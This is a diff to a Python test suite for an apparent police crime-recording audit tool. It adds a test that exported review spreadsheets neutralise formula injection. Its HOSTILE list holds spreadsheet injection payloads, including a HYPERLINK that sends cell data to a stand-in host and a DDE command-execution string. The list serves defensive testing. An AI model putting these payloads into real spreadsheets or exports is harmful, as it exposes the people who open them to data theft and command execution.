@@ -137,7 +137,8 @@ def test_designs_carry_their_inclusion_probabilities(project, force):
         assert np.allclose(g.weight, strat.population[h] / strat.allocation[h])
     pps = draw_sample(project, kind="pps", size=60, seed=1, size_column="call_type_priority")
     probs = pps.records.set_index("record_id").inclusion_probability
-    crime_calls = pps.records.strand != "other"
+    # Crime-type calls and crimes linked to no incident (a crime: the largest size) come first.
+    crime_calls = (pps.records.strand != "other") | (pps.records.record_type == "crime")
     assert probs[crime_calls.to_numpy()].min() > probs[~crime_calls.to_numpy()].max()
     # A score from another table (e.g. the screen's) keyed by incident_id.
     ids = force["incidents"].column("incident_id").to_pylist()
@@ -171,7 +172,8 @@ def test_full_round_trip_with_the_oracle_covers_the_truth(project, force):
     assert res.get("recording_rate", "violence").n < rate.n
     unrec = res.get("unrecorded_per_year")
     assert unrec.lower <= unrec.estimate <= unrec.upper and unrec.unit == "crimes"
-    written = json.loads((project.path / "reports" / "estimates.json").read_text())
+    written = json.loads(
+        (project.path / "reports" / f"estimates-{res.sample_id}-auto.json").read_text())
     assert written["sample_id"] == res.sample_id
     assert {e["measure"] for e in written["estimates"]} >= {
         "recording_rate", "timeliness", "classification_accuracy", "cancellation_wrong",
@@ -389,3 +391,54 @@ def test_a_crime_whose_incident_reference_was_lost_is_not_counted_twice(project)
     assert judged.notes.str.contains("reference lost").all()
     rate = estimate(project, write=False).get("recording_rate")
     assert "cannot_tell" in rate.notes
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
+           "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
+
+
+def test_hostile_text_never_becomes_a_live_formula_in_the_review_sheets(tmp_path, force):
+    """Narratives, locations and divisions come from the public and the force: a cell that
+    starts like a formula must open as text in a spreadsheet, and the sheet still imports."""
+    from openpyxl import load_workbook
+
+    inc = force["incidents"].to_pandas()
+    k = len(inc)
+    inc["narrative"] = [HOSTILE[i % len(HOSTILE)] for i in range(k)]
+    inc["location"] = [HOSTILE[(i + 1) % len(HOSTILE)] for i in range(k)]
+    inc["division"] = [HOSTILE[(i + 2) % len(HOSTILE)] for i in range(k)]
+    d = tmp_path / "hostile"
+    with Project.init(d) as p:
+        p.engine.write("incidents", pa.Table.from_pandas(
+            inc, schema=TABLES["incidents"].arrow_schema(), preserve_index=False),
+            mode="append")
+        for name in ("crimes", "truth_incidents", "truth_crimes"):
+            p.engine.write(name, force[name], mode="append")
+        draw_sample(p, kind="srs", size=40, seed=3)
+        paths = export_review(p)
+        ws = load_workbook(paths["xlsx"])["review"]
+        header = [c.value for c in ws[1]]
+        seen = set()
+        for row in ws.iter_rows(min_row=2):
+            for name in ("narrative", "location", "division"):
+                cell = row[header.index(name)]
+                assert cell.data_type != "f", (name, cell.value)  # never a formula
+                if cell.value and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    assert cell.value in HOSTILE  # the text itself is kept, unchanged
+                    seen.add(cell.value)
+        assert len(seen) >= 5  # the hostile texts did reach the sheet
+        with open(paths["csv"], encoding="utf-8", newline="") as f:
+            for rec in csv.DictReader(f):
+                for name in ("narrative", "location", "division"):
+                    assert not rec[name].startswith(("=", "+", "-", "@", "\t", "\r")), rec[name]
+        oracle_review(p)
+        # A completed CSV sheet (its cells escaped as exported) imports cleanly.
+        answers = latest_decisions(p, load_sample(p).sample_id).set_index("record_id")
+        sheet = pd.read_csv(paths["csv"], dtype=str, keep_default_na=False)
+        for col in ("should_record", "recorded", "correctly_classified", "correct_class",
+                    "within_time_limit", "cancellation_valid", "victim_told"):
+            sheet[col] = sheet.record_id.map(answers[col]).fillna("")
+        sheet["auditor"] = "A.Smith"
+        done = tmp_path / "done.csv"
+        sheet.to_csv(done, index=False, quoting=csv.QUOTE_ALL)
+        assert import_review(p, done).stored == 40
